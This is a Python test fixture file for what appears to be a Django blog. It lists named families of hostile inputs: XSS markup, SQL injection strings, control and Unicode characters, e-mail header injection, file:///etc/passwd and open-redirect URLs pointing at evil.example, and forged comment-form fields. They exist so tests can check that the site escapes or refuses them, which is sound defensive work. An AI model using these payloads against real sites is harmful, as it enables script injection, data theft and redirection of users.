"""Hostile input, as data: one named list per family, each payload with a short id so
that a failure names it. The tests in tests/hostile/test_*.py send these to the
comment form, search, the admin and the editor's preview; tests/test_properties.py
mixes the markup fragments into generated text.

Payloads are str unless the family says bytes (raw, possibly invalid, UTF-8 for
request bodies and query strings).
"""

from __future__ import annotations

from typing import Any, NamedTuple


class Payload(NamedTuple):
    id: str
    value: Any  # str, except FORGED_SECURITY's field overrides


def _family(*pairs: tuple[str, Any]) -> list[Payload]:
    ids = [pair[0] for pair in pairs]
    assert len(ids) == len(set(ids)), "payload ids must be unique within a family"
    return [Payload(*pair) for pair in pairs]


# Markup a browser could run: raw HTML, URLs with dangerous schemes, Markdown links
# and images, CSS, SVG/MathML and mutation-XSS nesting, entity tricks.
XSS = _family(
    ("script", "<script>alert(1)</script>"),
    ("script-upper", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
    ("script-split", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script-unclosed", "<script>alert(1)"),
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("img-onerror-quoted", '<img src="x" onerror="alert(1)">'),
    ("img-onerror-slash", "<img/src=x/onerror=alert(1)>"),
    ("img-js-src", '<img src="javascript:alert(1)">'),
    ("svg-onload", "<svg onload=alert(1)>"),
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-animate", '<svg><a><animate attributeName="href" values="javascript:alert(1)"/>'
                    "<text>x</text></a></svg>"),
    ("body-onload", "<body onload=alert(1)>"),
    ("div-onmouseover", '<div onmouseover="alert(1)">hover</div>'),
    ("details-ontoggle", "<details open ontoggle=alert(1)>"),
    ("a-js", '<a href="javascript:alert(1)">click</a>'),
    ("a-js-mixed-case", '<a href="JaVaScRiPt:alert(1)">click</a>'),
    ("a-js-spaced", '<a href=" javascript:alert(1)">click</a>'),
    ("a-js-tab", '<a href="java\tscript:alert(1)">click</a>'),
    ("a-js-newline", '<a href="java\nscript:alert(1)">click</a>'),
    ("a-js-entities", '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;'
                      '&#58;alert(1)">click</a>'),
    ("a-js-hex-entities", '<a href="&#x6A;avascript&#x3A;alert(1)">click</a>'),
    ("a-js-colon-entity", '<a href="javascript&colon;alert(1)">click</a>'),
    ("a-vbscript", '<a href="vbscript:msgbox(1)">click</a>'),
    ("a-data-html", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'),
    ("a-attr-breakout", '<a href="https://example.org/" onclick="alert(1)">x</a>'),
    ("attr-breakout-text", '" onmouseover="alert(1)" x="'),
    ("attr-breakout-single", "' onmouseover='alert(1)' x='"),
    ("iframe", '<iframe src="https://evil.example/"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    ("object", '<object data="data:text/html,<script>alert(1)</script>"></object>'),
    ("embed", '<embed src="javascript:alert(1)">'),
    ("style-tag", "<style>body{background:url(javascript:alert(1))}</style>"),
    ("style-expression", '<p style="width:expression(alert(1))">x</p>'),
    ("style-url-js", '<p style="background:url(javascript:alert(1))">x</p>'),
    ("td-style-url", "| a |\n|---|\n| <td style=\"background:url(javascript:alert(1))\">x</td> |"),
    ("link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
    ("base-href", "<base href='https://evil.example/'>"),
    ("form-action", '<form action="https://evil.example/"><input name="p"><button>go</button>'
                    "</form>"),
    ("button-formaction", '<button formaction="javascript:alert(1)">x</button>'),
    ("math-mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>"
                  "</mglyph></table></mtext></math>"),
    ("math-href", '<math href="javascript:alert(1)"><mi>x</mi></math>'),
    ("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("comment-mxss", "<!--<img src=x onerror=alert(1)>-->"),
    ("cdata-mxss", "<![CDATA[<img src=x onerror=alert(1)>]]>"),
    ("template-mxss", "<template><script>alert(1)</script></template>"),
    ("textarea-breakout", "</textarea><script>alert(1)</script>"),
    ("title-breakout", "</title><script>alert(1)</script>"),
    ("ldjson-breakout", '</script><script>alert(1)</script><!--'),
    ("entity-lt", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("entity-double", "&amp;lt;script&amp;gt;alert(1)"),
    ("md-link-js", "[x](javascript:alert(1))"),
    ("md-link-js-case", "[x](JaVaScRiPt:alert(1))"),
    ("md-link-js-entity", "[x](&#106;avascript:alert(1))"),
    ("md-link-js-encoded", "[x](javascript%3Aalert(1))"),
    ("md-link-js-angle", "[x](<javascript:alert(1)>)"),
    ("md-link-data", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("md-link-vbscript", "[x](vbscript:msgbox(1))"),
    ("md-link-title-breakout", '[x](https://example.org/ "a\" onmouseover=\"alert(1)")'),
    ("md-image-js", "![x](javascript:alert(1))"),
    ("md-image-data-svg", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
    ("md-image-onerror", '![x" onerror="alert(1)](https://example.org/x.png)'),
    ("md-ref-link-js", "[x][r]\n\n[r]: javascript:alert(1)"),
    ("md-autolink-js", "<javascript:alert(1)>"),
    ("md-autolink-data", "<data:text/html,<script>alert(1)</script>>"),
    ("md-autolink-mail", "<mailto:ann@example.org?body=<script>alert(1)</script>>"),
    ("md-html-block", '<div markdown="1">\n<script>alert(1)</script>\n</div>'),
    ("md-fenced-script", "```html\n<script>alert(1)</script>\n```"),
    ("md-code-span", "`<img src=x onerror=alert(1)>`"),
    ("md-table-html", "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | "
                      "[x](javascript:alert(1)) |"),
    ("md-citation-js", "[1](javascript:alert(1)) and [1]"),
    ("bare-url-js", "javascript:alert(1)"),
    ("bare-url-quote", 'https://example.org/"><script>alert(1)</script>'),
    ("bare-url-attr", "https://example.org/?a=1&b=\"onmouseover=alert(1)"),
    ("fullwidth-tags", "＜script＞alert(1)＜/script＞"),
    ("xmp-plaintext", "<xmp><script>alert(1)</script></xmp><plaintext>"),
)

# Strings that look like SQL: they must be stored and shown as typed, never run.
SQL = _family(
    ("drop-table", "'; DROP TABLE blog_post; --"),
    ("or-true", "' OR '1'='1"),
    ("union", "1 UNION SELECT username, password FROM auth_user --"),
    ("comment-close", "*/ SELECT 1; /*"),
    ("double-quote", '"; DELETE FROM django_comments; --'),
    ("like-wildcards", "%_%\\%"),
    ("fts-syntax", 'NEAR(a b) OR "x" NOT y* ^z {title}: -w'),
    ("pg-tsquery", "a & !b | (c <-> d):*"),
)

# Characters that are not text: NUL (PostgreSQL refuses it in text), other C0/C1
# controls (XML 1.0 refuses them), the percent-encoded NUL typed as text, and
# Unicode non-characters.
CONTROL = _family(
    ("nul", "before\x00after"),
    ("nul-only", "\x00"),
    ("percent-00", "before%00after"),
    ("c0-controls", "a\x01b\x02c\x03d\x07e\x08f"),
    ("vertical-tab", "line one\x0bline two"),
    ("form-feed", "page one\x0cpage two"),
    ("escape", "\x1b[31mred\x1b[0m"),
    ("delete", "a\x7fb"),
    ("c1-controls", "a\x85b\x9bc"),
    ("noncharacters", "a\ufffeb\uffffc"),
    ("crlf", "one\r\ntwo\rthree"),
)

# Unicode that changes how text looks: direction overrides, invisible characters,
# combining marks, astral planes.
UNICODE = _family(
    ("rlo", "\u202egnp.exe"),
    ("rlo-name", "Ann \u202eredaeR"),
    ("lri-pdi", "\u2066abc\u2069 \u2067def\u2069"),
    ("zwj", "a\u200db\u200cc\u200bd\u2060e"),
    ("bom", "\ufeffhello"),
    ("zalgo", "z\u0336\u0301\u0315a\u0337\u0300l\u0338g\u0334o\u0335"),
    ("emoji", "\U0001f469\u200d\U0001f467 family \U0001f3f3\ufe0f\u200d\U0001f308"),
    ("astral", "\U00010000\U0010fffd"),
    ("line-separator", "one\u2028two\u2029three"),
    ("replacement", "\ufffd\ufffd"),
    ("turkish-i", "İstanbul ıi"),
    ("rtl-script", "مرحبا שלום"),
)

# Lone surrogates cannot travel in UTF-8: over HTTP they arrive as invalid bytes (see
# INVALID_UTF8); only direct calls can pass them, and nothing stores them.
LONE_SURROGATES = _family(
    ("high", "a\ud800b"),
    ("low", "a\udc00b"),
)

# Percent-encoded bytes that are not UTF-8, for query strings and form bodies.
INVALID_UTF8 = _family(
    ("ff-fe", "%ff%fe"),
    ("overlong-slash", "%c0%af"),
    ("surrogate-bytes", "%ed%a0%80"),
    ("lone-continuation", "a%80b"),
    ("truncated", "%e2%82"),
    ("nul-byte", "%00"),
    ("mixed", "ok%ffstill%c3%28ok"),
)

TEN_THOUSAND = "N" * 10_000
ONE_MB = "x" * (1024 * 1024)

# Sizes: far beyond every field's limit.
SIZES = _family(
    ("10k-name", TEN_THOUSAND),
    ("10k-words", "word " * 2_000),
    ("1mb", ONE_MB),
)

# What the e-mail field must refuse.
INVALID_EMAILS = _family(
    ("no-at", "ann.example.org"),
    ("two-ats", "ann@@example.org"),
    ("no-domain", "ann@"),
    ("no-local", "@example.org"),
    ("spaces", "ann reader@example.org"),
    ("newline-header", "ann@example.org\nBcc: victim@example.org"),
    ("crlf-header", "ann@example.org\r\nBcc: victim@example.org"),
    ("script", "<script>@example.org"),
    ("quote", '"ann"@example.org"><script>alert(1)</script>'),
    ("nul", "ann\x00@example.org"),
    ("js", "javascript:alert(1)"),
    ("long-local", "a" * 300 + "@example.org"),
    ("long-domain", "ann@" + "a" * 300 + ".org"),
    ("dot-dot", "ann..reader@example.org"),
    ("ip-literal-bad", "ann@[999.1.1.1]"),
    ("comma-list", "ann@example.org,bob@example.org"),
)

# What the website field must refuse (or keep only as an http(s) link).
HOSTILE_URLS = _family(
    ("js", "javascript:alert(1)"),
    ("js-case", "JaVaScRiPt:alert(1)"),
    ("js-spaced", " javascript:alert(1)"),
    ("vbscript", "vbscript:msgbox(1)"),
    ("data", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ("attr-breakout", 'https://example.org/" onmouseover="alert(1)'),
    ("ftp", "ftp://example.org/"),
    ("file", "file:///etc/passwd"),
    ("protocol-relative", "//evil.example/"),
    ("long", "https://example.org/" + "a" * 300),
)

# Where a `next` parameter must never send anyone: off the site, or to a script.
OPEN_REDIRECTS = _family(
    ("protocol-relative", "//evil.example"),
    ("absolute", "https://evil.example/"),
    ("http", "http://evil.example/"),
    ("backslash", "/\\evil.example"),
    ("double-backslash", "\\\\evil.example"),
    ("backslash-slash", "\\/evil.example"),
    ("triple-slash", "///evil.example"),
    ("js", "javascript:alert(1)"),
    ("js-case", "JaVaScRiPt:alert(1)"),
    ("data", "data:text/html,<script>alert(1)</script>"),
    ("userinfo", "https://testserver@evil.example/"),
    ("tab", "/\t/evil.example"),
    ("encoded-slashes", "%2F%2Fevil.example"),
    ("leading-space", " //evil.example"),
    ("scheme-no-slashes", "https:evil.example"),
)

# Keys that are not a signed confirmation or mute link.
GARBAGE_KEYS = _family(
    ("short", "x"),
    ("colon", "a:b:c"),
    ("base64-junk", "eyJhIjoiYiJ9:1abcde:abcdefghijklmnopqrstuvwxyz"),
    ("script", "<script>alert(1)</script>"),
    ("sql", "' OR 1=1 --"),
    ("long", "A" * 10_000),
    ("percent-ff", "%ff%fe"),
    ("nul", "%00"),
    ("dots", ".."),
)

# The comment form's security fields, forged one at a time.
FORGED_SECURITY = _family(
    ("content-type-user", {"content_type": "auth.user"}),
    ("content-type-empty", {"content_type": ""}),
    ("content-type-script", {"content_type": "<script>alert(1)</script>"}),
    ("content-type-nul", {"content_type": "blog.post\x00"}),
    ("content-type-unknown", {"content_type": "nope.nothing"}),
    ("object-pk-zero", {"object_pk": "0"}),
    ("object-pk-negative", {"object_pk": "-1"}),
    ("object-pk-huge", {"object_pk": "9" * 30}),
    ("object-pk-sql", {"object_pk": "1 OR 1=1"}),
    ("object-pk-text", {"object_pk": "abc"}),
    ("object-pk-nul", {"object_pk": "1\x00"}),
    ("object-pk-missing", {"object_pk": None}),
    ("hash-tampered", {"security_hash": "0" * 40}),
    ("hash-empty", {"security_hash": ""}),
    ("hash-long", {"security_hash": "a" * 10_000}),
    ("hash-script", {"security_hash": "<script>alert(1)</script>"}),
    ("timestamp-future", {"timestamp": "99999999999"}),
    ("timestamp-zero", {"timestamp": "0"}),
    ("timestamp-negative", {"timestamp": "-1"}),
    ("timestamp-text", {"timestamp": "yesterday"}),
    ("timestamp-huge", {"timestamp": "9" * 400}),
    ("reply-to-negative", {"reply_to": "-1"}),
    ("reply-to-huge", {"reply_to": "9" * 30}),
    ("reply-to-text", {"reply_to": "abc"}),
    ("reply-to-missing-comment", {"reply_to": "987654"}),
    ("honeypot-filled", {"honeypot": "http://spam.example/"}),
)

# Everything a reader or writer might type as text, for the pipelines that take text.
TEXT = [*XSS, *SQL, *UNICODE, *CONTROL, SIZES[0]]


def _pick(family: list[Payload], *ids: str) -> list[Payload]:
    chosen = [payload for payload in family if payload.id in ids]
    assert len(chosen) == len(ids), "unknown payload id"
    return chosen


# For what a template only escapes (names, titles, tag names): one payload per way out
# of an element, an attribute, a textarea, the <title>, JSON-LD, plus the characters
# that break XML, text direction and the database. The markup pipelines get everything.
ESCAPING = [
    *_pick(XSS, "script", "img-onerror", "attr-breakout-text", "attr-breakout-single",
           "textarea-breakout", "title-breakout", "ldjson-breakout", "entity-lt",
           "a-js", "svg-onload"),
    *_pick(SQL, "drop-table"),
    *_pick(CONTROL, "nul", "c0-controls", "noncharacters", "crlf"),
    *_pick(UNICODE, "rlo-name", "zwj", "emoji"),
]  # fmt: skip
